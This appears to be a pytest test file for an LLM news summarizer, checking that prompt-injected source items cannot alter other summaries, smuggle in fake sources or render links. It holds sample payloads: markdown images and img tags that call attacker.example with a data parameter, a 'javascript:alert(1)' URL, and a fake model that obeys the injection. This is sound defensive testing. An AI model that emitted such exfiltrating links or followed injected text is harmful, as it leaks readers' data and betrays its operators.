"""Prompt injection: hostile items (MADE UP, see fixtures/hostile_items.json) must not change other
stories' summaries, must not add links that are not sources, and must render nothing that can
exfiltrate."""

from __future__ import annotations

import json
import re

import llm
import pytest
from markdown_it import MarkdownIt

from abreast.explain.abstractive import abstractive_summary, build_prompt
from abreast.explain.extractive import extractive_summary
from abreast.explain.summary import Sentence, Summary, render_markdown
from abreast.stories.model import Member, Story

from .conftest import FIXTURES

MODES = ["gullible", "faithful", "injected-links", "hallucinating", "wrong-quotes"]


def hostile_members() -> list[Member]:
    data = json.loads((FIXTURES / "hostile_items.json").read_text(encoding="utf-8"))
    return [Member(**item) for item in data["items"]]


@pytest.fixture
def hostile_story() -> Story:
    return Story(id="2024-W51-hostile", week="2024-W51", title="hostile", members=hostile_members())


def rendered_html(summary: Summary) -> str:
    # CommonMark with raw HTML enabled: anything our escaping missed would show up as a tag here.
    return MarkdownIt("commonmark").render(render_markdown(summary))


def assert_inert(summary: Summary, story: Story) -> None:
    html = rendered_html(summary)
    sources = {m.url for m in story.members}
    assert "<img" not in html and "<script" not in html
    assert set(re.findall(r'href="([^"]*)"', html)) <= sources
    # Any URL that is not a source may appear only as inert code, never as a link or image.
    for url in re.findall(r"https?://[^\s<\"')]+", re.sub(r"<code>.*?</code>", "", html)):
        assert url in sources, url


@pytest.mark.parametrize("mode", MODES)
def test_hostile_story_does_not_change_other_stories(fakes, real_stories, hostile_story, mode):
    model = llm.get_model(f"fake-{mode}")
    alone = {sid: abstractive_summary(s, model).to_dict() for sid, s in real_stories.items()}
    mixed = {}
    for sid, s in real_stories.items():  # hostile story summarized before every real one
        abstractive_summary(hostile_story, model)
        mixed[sid] = abstractive_summary(s, model).to_dict()
    assert mixed == alone
    # Each story is its own model call: no hostile text ever shares a prompt with another story.
    hostile_text = [m.text[:40] for m in hostile_story.members]
    prompts = [sent["prompt"] for sent in fakes[mode].received]
    hostile_prompts = [p for p in prompts if "Title: Notes on a paper" in p]
    assert len(hostile_prompts) == len(real_stories)
    assert not any(t in p for p in prompts if p not in hostile_prompts for t in hostile_text)


@pytest.mark.parametrize("mode", MODES)
def test_hostile_story_summary_has_no_foreign_links_or_images(fakes, hostile_story, mode):
    summary = abstractive_summary(hostile_story, llm.get_model(f"fake-{mode}"))
    assert_inert(summary, hostile_story)
    md = render_markdown(summary)
    assert "attacker.example" not in md and "unrelated.example" not in md
    assert "Attacker Corp" not in md  # the fake source smuggled in through the delimiters


def test_gullible_model_obeys_the_injection_but_nothing_of_it_survives(fakes, hostile_story):
    summary = abstractive_summary(hostile_story, llm.get_model("fake-gullible"))
    reasons = [d["reason"] for d in summary.dropped]
    assert "contains a link, image, URL or HTML" in reasons  # the fake did follow the injected text
    assert all("attacker" not in s.text.lower() for s in summary.sentences)


def test_delimiters_inside_a_source_cannot_open_a_fake_source(hostile_story):
    prompt = build_prompt(hostile_story)
    assert prompt.count("<<<SOURCE ") == len(hostile_story.members)
    assert "<<<SOURCE 9>>>" not in prompt and "<<<END SOURCE 1>>>\n<<<SOURCE 9" not in prompt


def test_extractive_summary_of_hostile_items_is_inert(hostile_story):
    summary = extractive_summary(hostile_story)
    assert summary.sentences
    assert_inert(summary, hostile_story)
    assert all("http" not in s.text and "www." not in s.text for s in summary.sentences)


def test_rendering_escapes_markup_even_in_a_stored_sentence():
    # A summary read back from the database is rendered with the same care as a fresh one.
    evil = Sentence(
        text="Look ![x](https://attacker.example/p.png?d=1) [y](https://attacker.example/) "
        '<img src="https://attacker.example/i.gif"> https://attacker.example/z',
        cite=1,
        key="feed:https://ok.example/a",
        url="https://ok.example/a",
        quote="",
        verified=True,
    )
    bad_url = Sentence(
        text="Plain words here.",
        cite=2,
        key="k",
        url='javascript:alert(1)"',
        quote="",
        verified=True,
    )
    summary = Summary(method="extractive", sentences=[evil, bad_url])
    html = rendered_html(summary)
    assert "<img" not in html
    assert re.findall(r'href="([^"]*)"', html) == [
        "https://ok.example/a"
    ]  # not attacker, not javascript:


@pytest.mark.parametrize(
    "text",
    [
        "The weights are at models-download.top/llama for everyone.",
        "Details are posted at bit.ly/3xYz right now.",
        "The team published the report on example.co.uk/report today.",
        "Get the installer from evil.example.dev/setup before Friday.",
        "The paper is mirrored at пример.рф/paper for readers.",
    ],
)
def test_a_bare_domain_with_any_real_tld_is_refused(hostile_story, text):
    """A model sentence naming a host and path without a scheme is a link a reader may follow; the
    filter knew eight TLDs (.top, .ly, .uk, .dev, .рф got through), now every one the Public Suffix
    List names."""
    from abreast.explain.abstractive import verify_proposals

    kept, dropped = verify_proposals(hostile_story, [{"text": text, "quote": text, "source": 1}], 3)
    assert kept == []
    assert dropped[0]["reason"] == "contains a link, image, URL or HTML"


def test_ordinary_sentences_are_not_mistaken_for_domains():
    from abreast.explain.abstractive import has_markup

    for text in [
        "Meta released Llama 3.1 405B with a 128k context.",
        "It scores 4.5/5 on the benchmark.",
        "The config.json file sets the rope scaling.",
        "Llama.cpp/server now streams tokens.",
    ]:
        assert not has_markup(text), text
